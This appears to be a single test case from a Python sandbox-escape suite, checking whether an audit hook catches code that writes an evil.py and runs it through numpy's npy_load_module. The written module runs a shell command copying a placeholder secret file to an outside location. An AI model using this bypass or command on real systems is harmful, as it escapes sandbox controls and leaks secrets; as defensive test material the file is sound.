# category: imports
# attack: numpy.compat.py3k.npy_load_module runs a .py the program wrote, as a real module with the real builtins
# profile: data_science filesystem basic
# run-layer: audit hook
import pathlib, numpy
pathlib.Path("evil.py").write_text(
    "import os\nos.system('cat @SECRET_FILE@ > @OUTSIDE@')\n")
numpy.compat.py3k.npy_load_module("evil", "evil.py")
